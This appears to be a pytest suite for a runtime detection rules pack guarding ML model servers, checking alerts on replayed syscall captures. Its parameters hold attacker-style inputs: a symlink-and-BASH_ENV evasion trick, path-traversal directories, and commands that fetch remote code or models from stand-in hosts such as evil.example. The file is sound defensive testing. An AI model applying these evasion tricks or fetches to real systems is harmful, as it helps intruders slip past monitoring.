    code = python.params[se.EXECVE_ARGS].split(b"\0")[1].decode()
    derived = derive(
        PYTHON_B1.capture, PYTHON_B1.exec(path="/usr/bin/python3.11", argv=["/tmp/x", "-c", code], name="x")
    )
    [event] = derived.fired(REVERSE_SHELL, f"{EXECVE} and {PYTHON_B1.thread}")
    assert event["proc.name"] == "x"


# Finding 10: the system-script exception holds only for the image's /bin/sh running the script.


@pytest.mark.parametrize(
    ("path", "argv", "name", "fires"),
    [
        ("/usr/bin/dash", ["/bin/sh", "/sbin/ldconfig", "-p"], "ldconfig", False),  # the real script
        ("/bin/dash", ["/bin/sh", "/usr/bin/which", "python3"], "which", False),
        # ln -s /bin/bash /tmp/ldconfig; BASH_ENV=/tmp/x.sh /tmp/ldconfig /sbin/ldconfig -p
        ("/usr/bin/bash", ["/tmp/ldconfig", "/sbin/ldconfig", "-p"], "ldconfig", True),
        ("/usr/bin/bash", ["/bin/bash", "/usr/bin/which", "python3"], "which", True),
        ("/usr/bin/zsh", ["/tmp/which", "/bin/which", "x"], "which", True),
    ],
)
def test_a_system_script_is_excepted_only_under_the_images_sh(
    derive: Derive, path: str, argv: list[str], name: str, fires: bool
) -> None:
    derived = derive(SH_A1.capture, SH_A1.exec(path=path, argv=argv, name=name))
    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
    assert (event["proc.name"], event["proc.exepath"]) == (name, path)
    assert bool(derived.fired(SHELL, f"{EXECVE} and {SH_A1.thread}")) is fires


# -- Review of the rules pack (notes/review-rules.md) ---------------------------------------------
# Each finding on the nearest recorded action, rewritten the way the attacker changes it.

TRITON_LOCALIZED = "/tmp/folderAbC123"


# Finding 1: Triton's model-load API with file overrides writes the request's model into
# /tmp/folderXXXXXX and starts the Python backend stub on it.


@pytest.mark.parametrize(
    ("model_dir", "fires"),
    [
        ("/models/resnet", False),  # the model repository
        ("/mnt/models/resnet", False),  # KServe's
        ("/opt/ml/model/resnet", False),  # SageMaker's
        (TRITON_LOCALIZED, True),  # a model sent with the load API
        ("/tmp/evil", True),
        ("/models/../tmp/folderAbC123", True),  # a model dir's name, then out of it
        ("/models-evil/resnet", True),  # a name that only starts like a model dir
    ],
)
def test_triton_stub_is_excepted_only_for_a_model_in_the_model_dirs(
    derive: Derive, model_dir: str, fires: bool
) -> None:
    start = TRITON_START.replace("/models/resnet", model_dir)
    derived = derive(
        MV_D2.capture, _triton(parent="tritonserver", path="/usr/bin/bash", argv=["bash", "-c", start])
    )
    [event] = derived.events(f"{EXECVE} and {MV_D2.thread}")
    assert event["proc.args"] == f"-c {start}"
    assert bool(derived.fired(SHELL, f"{EXECVE} and {MV_D2.thread}")) is fires


def test_the_triton_stub_exception_spells_out_every_model_dir() -> None:
    """Like the /proc mirror: the stub's model argument is pinned to each default model dir."""
    ruleset = load_paths([str(PACK)])
    macro = ruleset.macros["serving_guard_triton_python_stub_launch"]
    assert macro.ast is not None
    pinned = {
        c.value.text.removeprefix(f"-c  exec {TRITON_STUB} ")
        for c in checks(macro.ast)
        if isinstance(c.value, Value) and c.value.text.startswith(f"-c  exec {TRITON_STUB} /")
    }
    assert pinned == {f"{d}/*" for d in ruleset.list_items["serving_guard_model_dirs"]}


@pytest.mark.parametrize(
    ("recorded", "opened", "exe", "name", "path", "fires"),
    [
        # tritonserver writes the request's files (d1's append, by tritonserver).
        (
            PYTHON_D1,
            "/models/resnet/model.pt",
            "/opt/tritonserver/bin/tritonserver",
            "tritonserver",
            f"{TRITON_LOCALIZED}/1/model.py",
            True,
        ),
        (
            PYTHON_D1,
            "/models/resnet/model.pt",
            "/opt/tritonserver/bin/tritonserver",
            "tritonserver",
            f"{TRITON_LOCALIZED}/config.pbtxt",
            True,
        ),
        # The stub reads model.py (c1's read, by the stub; its name is cut at 15 characters).
        (
            PYTHON_C1,
            "/tmp/evil/model.pt",
            TRITON_STUB,
            "triton_python_b",
            f"{TRITON_LOCALIZED}/1/model.py",
            True,
        ),
        # Not Triton, or not its localization directory.
        (
            PYTHON_C1,
            "/tmp/evil/model.pt",
            "/usr/bin/python3.11",
            "python3",
            f"{TRITON_LOCALIZED}/1/model.py",
            False,
        ),
        (PYTHON_C1, "/tmp/evil/model.pt", TRITON_STUB, "triton_python_b", "/models/resnet/1/model.py", False),
        (
            PYTHON_C1,
            "/tmp/evil/model.pt",
            "/opt/tritonserver/bin/tritonserver",
            "tritonserver",
            "/tmp/folders.txt",
            False,
        ),
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 40 else None,
)
def test_triton_opening_a_file_of_its_localization_dir_is_a_model_load(
    derive: Derive, recorded: Recorded, opened: str, exe: str, name: str, path: str, fires: bool
) -> None:
    _, exit_ = recorded.exec_events()
    argv = [exit_.text(se.EXECVE_EXE), *exit_.params[se.EXECVE_ARGS].rstrip(b"\0").decode().split("\0")]
    replacements = dict(recorded.exec(path=exe, argv=argv, name=name))
    replacements.update(_open_instead(recorded, opened, path))
    derived = derive(recorded.capture, replacements)
    assert bool(_opened(derived, recorded, MODEL_LOAD, path)) is fires


# Finding 2: an open that truncates or creates without O_WRONLY (the kernel truncates on
# O_RDONLY|O_TRUNC; evt.is_open_write is false for it).

PPM_O_RDONLY, PPM_O_WRONLY, PPM_O_CREAT, PPM_O_APPEND, PPM_O_TRUNC, PPM_O_CLOEXEC = 1, 2, 4, 8, 256, 4096
PPM_O_EXCL = 32


def _open_flags(recorded: Recorded, path: str, flags: int) -> Replacements:
    """The recorded program opens ``path`` with ``flags`` (the openat pair)."""
    _, exit_ = recorded.exec_events()
    enter, exit_open = [
        e
        for e in se.find_events(_events(recorded.capture), (se.OPENAT_ENTER, se.OPENAT_EXIT), exit_.tid)
        if e.text(se.OPENAT_ENTER_NAME if e.type == se.OPENAT_ENTER else se.OPENAT_EXIT_NAME) == path
    ][:2]
    packed = struct.pack("<I", flags)
    return {
        enter.index: se.replaced(enter, {se.OPENAT_ENTER_FLAGS: packed}),
        exit_open.index: se.replaced(exit_open, {se.OPENAT_EXIT_FLAGS: packed}),
    }


@pytest.mark.parametrize(
    ("flags", "shown", "fires"),
    [
        (
            PPM_O_WRONLY | PPM_O_CREAT | PPM_O_APPEND | PPM_O_CLOEXEC,
            "O_APPEND|O_CREAT|O_WRONLY|O_CLOEXEC",
            True,
        ),
        (PPM_O_RDONLY | PPM_O_TRUNC | PPM_O_CLOEXEC, "O_TRUNC|O_RDONLY|O_CLOEXEC", True),  # empties the model
        (PPM_O_RDONLY | PPM_O_CREAT | PPM_O_TRUNC, "O_TRUNC|O_CREAT|O_RDONLY", True),
        (PPM_O_RDONLY | PPM_O_CREAT | PPM_O_CLOEXEC, "O_CREAT|O_RDONLY|O_CLOEXEC", True),  # creates a file
        (PPM_O_RDONLY | PPM_O_CLOEXEC, "O_RDONLY|O_CLOEXEC", False),  # the server reading its model
    ],
    ids=lambda v: v if isinstance(v, str) else None,
)
def test_an_open_that_truncates_or_creates_a_model_file_is_tampering(
    derive: Derive, flags: int, shown: str, fires: bool
) -> None:
    path = "/models/resnet/model.pt"
    derived = derive(PYTHON_D1.capture, _open_flags(PYTHON_D1, path, flags))
    condition = f'evt.type = openat and evt.dir = < and {PYTHON_D1.thread} and fd.name = "{path}"'
    [event] = derived.sysdig.read_capture(
        str(derived.path), condition, ["evt.arg.flags", "evt.is_open_write"]
    )
    assert event["evt.arg.flags"] == shown
    assert bool(derived.fired(TAMPER, condition)) is fires


# Review of the fixes, finding 1: Triton's Python backend stub importing model.py writes its bytecode
# beside it (importlib: __pycache__/model.cpython-3X.pyc.<id>, O_WRONLY|O_CREAT|O_EXCL, then a
# rename) when the repository is writable. That is tampering, on purpose: a .pyc planted there runs at
# the next import. rules/README.md tells Python-backend users to mount the repository read-only (a
# failed open does not alert) or set PYTHONDONTWRITEBYTECODE=1.
PYC = "/models/ensemble_pre/1/__pycache__/model.cpython-312.pyc.140234567"


def test_the_triton_stub_writing_bytecode_into_a_model_dir_is_tampering(derive: Derive) -> None:
    model = "/models/resnet/model.pt"
    _, exit_ = PYTHON_D1.exec_events()
    argv = [exit_.text(se.EXECVE_EXE), *exit_.params[se.EXECVE_ARGS].rstrip(b"\0").decode().split("\0")]
    replacements = dict(PYTHON_D1.exec(path=TRITON_STUB, argv=argv, name="triton_python_b"))
    flags = struct.pack("<I", PPM_O_WRONLY | PPM_O_CREAT | PPM_O_EXCL | PPM_O_CLOEXEC)
    for index in _open_instead(PYTHON_D1, model, PYC):
        opened = next(e for e in _events(PYTHON_D1.capture) if e.index == index)
        position = se.OPENAT_ENTER_FLAGS if opened.type == se.OPENAT_ENTER else se.OPENAT_EXIT_FLAGS
        name = se.OPENAT_ENTER_NAME if opened.type == se.OPENAT_ENTER else se.OPENAT_EXIT_NAME
        replacements[index] = se.replaced(opened, {name: se.strings(PYC), position: flags})
    derived = derive(PYTHON_D1.capture, replacements)
    condition = f'evt.type = openat and evt.dir = < and {PYTHON_D1.thread} and fd.name = "{PYC}"'
    [event] = derived.sysdig.read_capture(str(derived.path), condition, ["evt.arg.flags", "proc.name"])
    assert (event["proc.name"], event["evt.arg.flags"]) == (
        "triton_python_b",
        "O_EXCL|O_CREAT|O_WRONLY|O_CLOEXEC",
    )
    assert derived.rules_fired(condition) == {TAMPER}


# Finding 3: a dropped script run by a relative path from a writable working directory, or by a path
# spelled with '.', '..', '//' or /proc segments.


@pytest.mark.parametrize(
    ("argv", "name", "cwd", "fires"),
    [
        (["python3", "x.py"], "python3", "/dev/shm", True),  # cd /dev/shm && python3 x.py
        (["python3", "./x.py"], "python3", "/tmp/", True),
        (["/usr/bin/python3", "./x.py"], "x.py", "/tmp/", True),  # ./x.py through its shebang
        (["sh", "x.sh"], "sh", "/var/tmp", True),
        (["python3", "/./tmp/x.py"], "python3", "/", True),
        (["python3", "/usr/../tmp/x.py"], "python3", "/", True),
        (["python3", "//tmp/x.py"], "python3", "/", True),
        (["python3", "/proc/self/cwd/x.py"], "python3", "/tmp", True),
        (["python3", "../tmp/x.py"], "python3", "/usr", True),
        # A working directory entered through /proc (review of the fixes, finding 2): its directory
        # cannot be read from it. (libsinsp normalizes '..', '.' and '//' in the path of chdir.)
        (["python3", "x.py"], "python3", "/proc/self/root/tmp", True),
        (["python3", "x.py"], "python3", "/proc/1/cwd", True),  # PID 1's cwd is /tmp
        (["sh", "x.sh"], "sh", "/proc/self/cwd", True),
        # A relative script elsewhere, options first, no script, the recordings' script directory.
        (["python3", "serve.py", "--port", "8000"], "python3", "/app", False),
        (["python3", "-u", "-m", "vllm.entrypoints.openai.api_server"], "python3", "/tmp", False),
        (["python3"], "python3", "/tmp", False),
        (["python3", "x.py"], "python3", "/tmp/sgscen/", False),
        (["python3", "/app/serve.py", "--model-dir", "./models"], "python3", "/tmp", False),
        (["busybox", "ls", "-l"], "busybox", "/tmp", False),
    ],
    ids=lambda v: " ".join(v) if isinstance(v, list) else v if isinstance(v, str) else None,
)
def test_a_script_run_by_a_relative_or_dotted_path_from_a_writable_dir_is_drift(
    derive: Derive, argv: list[str], name: str, cwd: str, fires: bool
) -> None:
    path = {"sh": "/usr/bin/dash", "busybox": "/usr/bin/busybox"}.get(argv[0], "/usr/bin/python3.11")
    derived = derive(DROPPED_G2.capture, DROPPED_G2.exec(path=path, argv=argv, name=name, cwd=cwd))
    [event] = derived.sysdig.read_capture(
        str(derived.path), f"{EXECVE} and {DROPPED_G2.thread}", ["proc.cwd", "proc.args"]
    )
    assert event["proc.args"] == " ".join(argv[1:])
    assert event["proc.cwd"].rstrip("/") == cwd.rstrip("/")
    assert bool(derived.fired(DRIFT, f"{EXECVE} and {DROPPED_G2.thread}")) is fires


# Finding 7: an interactive interpreter on a terminal (kubectl exec -it POD -- python3) starts no shell:
# the shell rule reports a program on a terminal whose parent is not a shell, once per exec.

SH_A4_PTY = Recorded("sg-a-shell.scap", "bash", "sh")  # sh -c "bash -c 'echo sgcap-a4'" on script's pty
BASH_A4_PTY = Recorded("sg-a-shell.scap", "sgcap-a4", "bash")  # its child bash, on the pty


@pytest.mark.parametrize(
    ("recorded", "path", "argv", "fires"),
    [
        (SH_A4_PTY, "/usr/bin/python3.11", ["python3"], True),
        (SH_A4_PTY, "/usr/bin/perl", ["perl", "-de0"], True),
        (SH_A4_PTY, "/usr/bin/node", ["node"], True),
        (SH_A4_PTY, "/usr/bin/bash", ["bash"], True),  # a shell, as before
        # Started by a shell on the terminal: the shell was reported.
        (BASH_A4_PTY, "/usr/bin/python3.11", ["python3"], False),
    ],
    ids=lambda v: " ".join(v) if isinstance(v, list) else None,
)
def test_a_program_on_a_terminal_is_a_shell_session(
    derive: Derive, recorded: Recorded, path: str, argv: list[str], fires: bool
) -> None:
    derived = derive(recorded.capture, recorded.exec(path=path, argv=argv, name=Path(path).name))
    [event] = derived.sysdig.read_capture(
        str(derived.path), f"{EXECVE} and {recorded.thread}", ["proc.tty", "proc.name", "proc.args"]
    )
    assert event["proc.tty"] != 0
    assert (event["proc.name"], event["proc.args"] or "") == (Path(path).name, " ".join(argv[1:]))
    fired = [e["evt.num"] for e in derived.fired(SHELL, f"{EXECVE} and {recorded.thread}")]
    assert len(fired) == (1 if fires else 0)  # one alert for the exec, or none
    # No other rule reports it a second time.
    assert derived.rules_fired(f"{EXECVE} and {recorded.thread}") == ({SHELL} if fires else set())


def _as_pid_1(recorded: Recorded) -> dict[int, list[bytes] | se.Retyped]:
    """The recorded program as the PID 1 of its namespace (its clone's child side says so)."""
    replacements = dict(recorded.exec())
    _, exit_ = recorded.exec_events()
    [clone] = [
        e
        for e in _events(recorded.capture)
        if e.tid == exit_.tid
        and e.type in se.CLONE_EXITS
        and struct.unpack("<q", e.params[se.CLONE_EXIT_RES])[0] == 0
    ]
    pid_1 = struct.pack("<q", 1)
    replacements[clone.index] = se.replaced(clone, {se.CLONE_EXIT_VTID: pid_1, se.CLONE_EXIT_VPID: pid_1})
    return replacements


@pytest.mark.parametrize(("recorded", "fires"), [(SH_A4_PTY, True), (SH_A1, False)], ids=["tty", "no-tty"])
def test_a_young_pid_1_shell_on_a_terminal_is_a_shell(
    sysdig: Sysdig, conditions: dict[str, str], tmp_path: Path, recorded: Recorded, fires: bool
) -> None:
    """Review of the fixes, finding 3: `kubectl debug -it POD --image=busybox -- sh` runs the shell as
    PID 1 of an ephemeral container seconds old, on a terminal. 2022 libsinsp has no
    container.duration (its stand-in is never true), so here the stand-in is made always true: every
    container is young. The entrypoint exception then holds for a PID-1 shell without a terminal
    only."""
    young = conditions[SHELL].replace(
        "(proc.vpid = 1 and evt.num = 0 and", "(proc.vpid = 1 and evt.num > 0 and"
    )
    assert young != conditions[SHELL]
    path = tmp_path / recorded.capture
    se.rewrite(CAPTURES / recorded.capture, path, _as_pid_1(recorded))
    derived = Derived(sysdig, {**conditions, SHELL: young}, path)
    [event] = derived.sysdig.read_capture(
        str(derived.path), f"{EXECVE} and {recorded.thread}", ["proc.vpid", "proc.tty", "proc.name"]
    )
    assert (event["proc.vpid"], event["proc.name"], event["proc.tty"] != 0) == (1, "sh", fires)
    assert bool(derived.fired(SHELL, f"{EXECVE} and {recorded.thread}")) is fires


def test_programs_without_a_terminal_are_not_shell_sessions(derive: Derive) -> None:
    """Every recorded program started without a terminal that is no shell stays quiet under rule 3."""
    derived = derive(SH_A1.capture, {})
    fired = {e["proc.name"] for e in derived.fired(SHELL, EXECVE)}
    assert fired == {"sh", "bash", "busybox"}  # a1-a4's shells (script itself has no terminal)


# Finding 9: the ML download calls in one-liners, and the download CLIs.


@pytest.mark.parametrize(
    ("code", "fires"),
    [
        (
            "from transformers import AutoModel; AutoModel.from_pretrained('evil/m', trust_remote_code=True)",
            True,
        ),
        ("import torch; torch.hub.load('evil/repo', 'm', trust_repo=True)", True),
        ("import torch; torch.hub.load_state_dict_from_url('https://evil.example/w.pth')", True),
        ("import boto3; boto3.client('s3').download_file('b', 'k', '/tmp/m.pt')", True),
        ("import botocore.session as s; s.get_session()", True),
        ("import s3fs; s3fs.S3FileSystem().get('b/k', '/tmp/m')", True),
        ("import gcsfs; gcsfs.GCSFileSystem().get('b/k', '/tmp/m')", True),
        ("import fsspec; fsspec.open('s3://b/m.pt').open().read()", True),
        ("from google.cloud import storage; storage.Client().bucket('b')", True),
        ("from azure.storage.blob import BlobClient", True),
        ("import aiohttp, asyncio", True),
        ("import wget; wget.download('https://evil.example/m.pt')", True),
        ("from modelscope import snapshot_download as d; d('evil/x')", True),
        # One-liners that fetch nothing.
        ("import torch; print(torch.cuda.is_available())", False),
        ("import transformers; print(transformers.__version__)", False),
    ],
)
def test_ml_download_calls_in_one_liners_are_downloads(derive: Derive, code: str, fires: bool) -> None:
    argv = ["python3", "-c", code]
    derived = derive(CURL_F2.capture, CURL_F2.exec(path="/usr/bin/python3.11", argv=argv, name="python3"))
    assert derived.events(f"{EXECVE} and {CURL_F2.thread}")
    assert bool(derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")) is fires


@pytest.mark.parametrize(
    "argv",
    [
        ["az", "storage", "blob", "download", "-c", "c", "-n", "m.pt", "-f", "/tmp/m.pt"],
        ["s3cmd", "get", "s3://b/m.pt", "/tmp/m.pt"],
        ["mc", "cp", "minio/b/m.pt", "/tmp/m.pt"],
        ["kaggle", "models", "instances", "versions", "download", "evil/m"],
        ["dvc", "pull"],
        ["oras", "pull", "registry.example/evil:latest"],
        ["skopeo", "copy", "docker://evil/x", "dir:/tmp/x"],
        ["lftp", "-c", "get ftp://evil.example/x"],
    ],
    ids=" ".join,
)
def test_more_download_tools_are_downloads(derive: Derive, argv: list[str]) -> None:
    derived = derive(CURL_F2.capture, CURL_F2.exec(path=f"/usr/local/bin/{argv[0]}", argv=argv, name=argv[0]))
    [event] = derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")
    assert event["proc.name"] == argv[0]


# Finding 10: the system-script exception names the whole script path, not a prefix.


@pytest.mark.parametrize(
    ("argv", "name", "fires"),
    [
        (["/bin/sh", "/usr/sbin/ldconfig"], "ldconfig", False),
        (["/bin/sh", "/sbin/ldconfig", "-p"], "ldconfig", False),
        (["/bin/sh", "/usr/bin/which", "python3"], "which", False),
        (["/bin/sh", "/bin/which"], "which", False),
        # ln -s /bin/sh /tmp/ldconfig; /tmp/ldconfig /usr/sbin/ldconfig-x (a script written beside it)
        (["/tmp/ldconfig", "/usr/sbin/ldconfig-x"], "ldconfig", True),
        (["/tmp/ldconfig", "/sbin/ldconfig.d/x", "-p"], "ldconfig", True),
        (["/tmp/which", "/usr/bin/whichever.sh"], "which", True),
    ],
)
def test_the_system_script_exception_is_the_whole_script_path(
    derive: Derive, argv: list[str], name: str, fires: bool
) -> None:
    derived = derive(SH_A1.capture, SH_A1.exec(path="/usr/bin/dash", argv=argv, name=name))
    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
    assert (event["proc.name"], event["proc.args"]) == (name, " ".join(argv[1:]))
    assert bool(derived.fired(SHELL, f"{EXECVE} and {SH_A1.thread}")) is fires


# Finding 4: GKE with Cloud DNS resolves through the metadata address; the README's recipe (replace
# serving_guard_node_dns) quiets DNS to it and keeps its API alerting.


@pytest.mark.parametrize(("proto", "port", "alerts"), [("udp", 53, False), ("tcp", 80, True)])
def test_the_readme_gke_cloud_dns_recipe_allows_dns_to_the_metadata_server(
    sysdig: Sysdig, tmp_path: Path, proto: str, port: int, alerts: bool
) -> None:
    readme = README.read_text(encoding="utf-8")
    [recipe] = [
        block
        for block in re.findall(r"```yaml\n(.*?)```", readme, re.S)
        if block.startswith("- macro: serving_guard_node_dns\n")
    ]
    tuning = tmp_path / "gke.yaml"
    tuning.write_text(recipe, encoding="utf-8")
    ruleset = load_paths([str(PACK), str(SCOPE_OVERRIDE), str(tuning)])
    egress = to_sysdig(ruleset.expanded[EGRESS].ast).text
    recorded, replacements = (PYTHON_E2, _udp_to) if proto == "udp" else (PYTHON_E1, _tcp_to)
    path = tmp_path / recorded.capture
    se.rewrite(CAPTURES / recorded.capture, path, replacements("169.254.169.254", port))
    fired = sysdig.read_capture(str(path), f"({recorded.thread}) and ({egress})", FIELDS)
    assert bool(fired) is alerts, fired


# Review of the pack, finding 8: a model dir swapped whole by renaming one of the directories above
# it, or by putting a directory or a link in its place: nothing below the model dir changes.


@pytest.mark.parametrize(
    ("oldpath", "newpath", "fires"),
    [
        ("/root/.cache", "/root/.cache.orig", True),  # the HF cache's parent moved away
        ("/tmp/fake-cache", "/root/.cache", True),  # another tree put in its place
        ("/opt/ml", "/opt/ml.orig", True),
        ("/home/model-server", "/home/ms", True),
        ("/root/.cache/pip", "/root/.cache/pip.old", False),  # inside, the model dirs left alone
        ("/opt/app", "/opt/app.old", False),
    ],
)
def test_renaming_a_directory_above_a_model_dir_is_tampering(
    derive: Derive, oldpath: str, newpath: str, fires: bool
) -> None:
    assert _rename_fires(derive, oldpath, newpath) is fires


@pytest.mark.parametrize(
    ("target", "link", "fires"),
    [
        ("/tmp/fake-ml", "/opt/ml", True),
        ("/tmp/fake-home", "/home/bentoml/bento", True),
        ("/tmp/fake", "/root/.cache", True),
        ("/tmp/x", "/opt/other", False),
    ],
)
def test_a_link_put_in_place_of_a_directory_above_a_model_dir_is_tampering(
    derive: Derive, target: str, link: str, fires: bool
) -> None:
    assert _symlink_fires(derive, target, link) is fires


def test_every_default_model_dirs_parent_is_watched() -> None:
    ruleset = load_paths([str(PACK)])
    ancestors = set(ruleset.list_items["serving_guard_model_dir_ancestors"])
    parents = {
        str(parent)
        for model_dir in ruleset.list_items["serving_guard_model_dirs"]
        for parent in PurePosixPath(model_dir).parents
        if str(parent) != "/"
    }
    assert parents == ancestors
